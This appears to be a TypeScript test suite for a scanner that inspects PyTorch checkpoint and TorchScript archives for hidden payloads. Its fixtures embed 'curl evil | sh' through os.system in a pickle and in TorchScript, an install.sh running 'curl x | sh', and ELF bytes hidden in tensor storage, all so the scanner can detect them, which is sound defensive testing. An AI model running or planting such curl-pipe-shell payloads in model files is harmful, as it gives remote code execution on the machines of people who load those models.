import { test } from 'node:test';
import assert from 'node:assert/strict';
import { benignCheckpoint, LINEAR, tensorBytes, torchPickle, torchZip, type TensorSpec } from './fixtures/torch.ts';
import { elfBytes, text } from './fixtures/zip.ts';
import { dump, only, ruleIds, scan } from './helpers.ts';

function storagesFor(tensors: readonly TensorSpec[]): Record<string, Uint8Array> {
  const out: Record<string, Uint8Array> = {};
  for (const t of tensors) out[t.key] ??= tensorBytes(t, Number(t.key) + 7);
  return out;
}

test('an ordinary torch.save checkpoint is clean with zero findings, and its storages are not scanned as content', async () => {
  const bytes = benignCheckpoint();
  const r = await scan(bytes, 'model.pt');
  assert.equal(r.format, 'pytorch-zip');
  assert.equal(r.verdict, 'clean', dump(r));
  assert.deepEqual(r.findings, []);
  const paths = r.units.map((u) => u.path);
  assert.ok(paths.includes('archive/data.pkl'));
  assert.equal(r.units.find((u) => u.path === 'archive/data.pkl')?.format, 'pickle');
  assert.ok(!paths.some((p) => p.startsWith('archive/data/')), 'tensor storages are sniffed, not handed on as units');
});

test('integer storages whose first value spells a magic number are still tensors', async () => {
  // 23117 as int64 starts with "MZ"; 0x464c457f starts with "\x7fELF" but without a valid ELF header.
  const ints: TensorSpec[] = [{ name: 'ids', key: '0', cls: 'LongStorage', numel: 4, size: [4] }];
  const data = new Uint8Array(32);
  const v = new DataView(data.buffer);
  v.setBigInt64(0, 23117n, true);
  v.setBigInt64(8, 0x464c457fn, true);
  const r = await scan(torchZip({ dataPkl: torchPickle(ints), storages: { '0': data } }), 'ids.pt');
  assert.equal(r.verdict, 'clean', dump(r));
});

test('a malicious data.pkl is scanned as a pickle with its member chain', async () => {
  const bytes = torchZip({ dataPkl: torchPickle(LINEAR, { osSystem: 'curl evil | sh' }), storages: storagesFor(LINEAR) });
  const r = await scan(bytes, 'model.pt');
  assert.equal(r.verdict, 'malicious', dump(r));
  assert.ok(r.findings.some((f) => f.location.members?.[0] === 'archive/data.pkl' && (f.severity === 'critical' || f.severity === 'high')), dump(r));
});

test('a storage the pickle references but the archive lacks is missing', async () => {
  const storages = storagesFor(LINEAR);
  delete storages['1'];
  const r = await scan(torchZip({ dataPkl: torchPickle(LINEAR), storages }), 'model.pt');
  const [f] = only(r, 'scan.pytorch.missing-storage');
  assert.ok(f, dump(r));
  assert.equal(f.evidence?.key, '1');
  assert.equal(r.verdict, 'malformed');
});

test('a storage no tensor references, and a file outside the torch layout, are unexpected members', async () => {
  const storages = { ...storagesFor(LINEAR), '9': tensorBytes(LINEAR[0]!, 3) };
  const r = await scan(torchZip({ dataPkl: torchPickle(LINEAR), storages, extra: [{ name: 'install.sh', data: text('#!/bin/sh\ncurl x | sh\n') }] }), 'model.pt');
  const hits = only(r, 'scan.pytorch.unexpected-member');
  assert.deepEqual(hits.map((f) => f.evidence?.member).sort(), ['archive/data/9', 'archive/install.sh'], dump(r));
  assert.deepEqual(only(r, 'scan.script-payload')[0]?.location.members, ['archive/install.sh']);
  assert.equal(r.verdict, 'suspicious');
});

test('a storage holding an executable is reported and the executable is found with its member chain', async () => {
  const tensors: TensorSpec[] = [{ name: 'w', key: '0', cls: 'ByteStorage', numel: 192, size: [192] }];
  const r = await scan(torchZip({ dataPkl: torchPickle(tensors), storages: { '0': elfBytes(128) } }), 'model.pt');
  assert.equal(only(r, 'scan.pytorch.storage-not-tensor').length, 1, dump(r));
  assert.deepEqual(only(r, 'scan.executable-payload')[0]?.location.members, ['archive/data/0']);
  assert.equal(r.verdict, 'malicious');
});

test('a storage holding a pickle is reported and the pickle goes to the pickle analyzer', async () => {
  const pickled = torchPickle(LINEAR, { osSystem: 'id' });
  const tensors: TensorSpec[] = [{ name: 'w', key: '0', cls: 'ByteStorage', numel: pickled.length, size: [pickled.length] }];
  const r = await scan(torchZip({ dataPkl: torchPickle(tensors), storages: { '0': pickled } }), 'model.pt');
  assert.equal(only(r, 'scan.pytorch.storage-not-tensor').length, 1, dump(r));
  assert.ok(r.units.some((u) => u.path === 'archive/data/0' && u.format === 'pickle'));
});

test('extra bytes after the tensor data are a size mismatch, and a payload there is found', async () => {
  const storages = storagesFor(LINEAR);
  storages['0'] = Buffer.concat([storages['0']!, elfBytes()]);
  const r = await scan(torchZip({ dataPkl: torchPickle(LINEAR), storages }), 'model.pt');
  assert.equal(only(r, 'scan.pytorch.storage-size-mismatch').length, 1, dump(r));
  assert.equal(only(r, 'scan.pytorch.storage-not-tensor').length, 1, dump(r));
  assert.deepEqual(only(r, 'scan.executable-payload')[0]?.location.members, ['archive/data/0 [after byte 24]']);
  // A short storage is a mismatch too (torch.load would fail).
  const short = storagesFor(LINEAR);
  short['1'] = short['1']!.subarray(0, 4);
  const s = await scan(torchZip({ dataPkl: torchPickle(LINEAR), storages: short }), 'model.pt');
  assert.match(only(s, 'scan.pytorch.storage-size-mismatch')[0]?.message ?? '', /torch.load fails/);
});

test('a member outside the archive folder keeps the checkpoint a checkpoint and is a layout anomaly', async () => {
  const bytes = torchZip({ dataPkl: torchPickle(LINEAR), storages: storagesFor(LINEAR), extra: [{ name: '/payload.txt', data: text('hello\n') }] });
  const r = await scan(bytes, 'model.pt');
  assert.equal(r.format, 'pytorch-zip');
  assert.equal(only(r, 'scan.pytorch.layout-anomaly').length, 1, dump(r));
});

test('a persistent id that is not a storage tuple is malformed', async () => {
  const bytes = torchZip({ dataPkl: torchPickle(LINEAR, { rawPersistentId: "('module', 'x', 'y')" }), storages: {} });
  const r = await scan(bytes, 'model.pt');
  assert.ok(only(r, 'scan.pytorch.persistent-id-malformed').length >= 1, dump(r));
});

test('an unreadable version or byte order record is a layout anomaly', async () => {
  const r = await scan(torchZip({ dataPkl: torchPickle(LINEAR), storages: storagesFor(LINEAR), version: 'three', byteorder: 'middle' }), 'model.pt');
  assert.equal(only(r, 'scan.pytorch.layout-anomaly').length, 2, dump(r));
});

const TORCHSCRIPT_OK = `op_version_set = 1
class Linear(Module):
  __parameters__ = ["weight", "bias", ]
  __buffers__ = []
  weight : Tensor
  bias : Tensor
  training : bool
  def forward(self: __torch__.torch.nn.modules.linear.Linear,
    input: Tensor) -> Tensor:
    weight = self.weight
    bias = self.bias
    _0 = getattr(self, "0")
    x = torch.linear(input, weight, bias)
    y = ops.prim.unchecked_cast(Tensor, x)
    return torch.relu(torch.add(y, CONSTANTS.c0))
`;

function torchscriptArchive(code: string): Uint8Array {
  return torchZip({
    dataPkl: torchPickle(LINEAR), storages: storagesFor(LINEAR),
    extra: [
      { name: 'code/__torch__/torch/nn/modules/linear.py', data: text(code) },
      { name: 'constants.pkl', data: torchPickle([]) },
      { name: 'extra/producer_info.json', data: text('{"producer": "test"}') },
    ],
  });
}

test('TorchScript sources that only call torch are clean', async () => {
  const r = await scan(torchscriptArchive(TORCHSCRIPT_OK), 'model.pt');
  assert.equal(r.format, 'torchscript');
  assert.deepEqual(ruleIds(r).filter((id) => id.startsWith('scan.pytorch')), [], dump(r));
});

test('TorchScript sources that reach the OS are malicious, located by line and column', async () => {
  const code = TORCHSCRIPT_OK.replace('    weight = self.weight\n', '    weight = self.weight\n    _1 = os.system("curl evil | sh")\n');
  const r = await scan(torchscriptArchive(code), 'model.pt');
  const [f] = only(r, 'scan.pytorch.torchscript-unsafe-call');
  assert.ok(f, dump(r));
  assert.equal(f.location.line, 11);
  assert.equal(f.location.column, 10);
  assert.equal(f.evidence?.member, 'archive/code/__torch__/torch/nn/modules/linear.py');
  assert.equal(r.verdict, 'malicious');
});

test('TorchScript calling a custom operator namespace is a medium finding', async () => {
  const code = TORCHSCRIPT_OK.replace('torch.relu(', 'torch.ops.my_vendor.fused_relu(');
  const r = await scan(torchscriptArchive(code), 'model.pt');
  assert.equal(only(r, 'scan.pytorch.torchscript-custom-op')[0]?.evidence?.name, 'torch.ops.my_vendor', dump(r));
  assert.equal(r.verdict, 'suspicious');
});
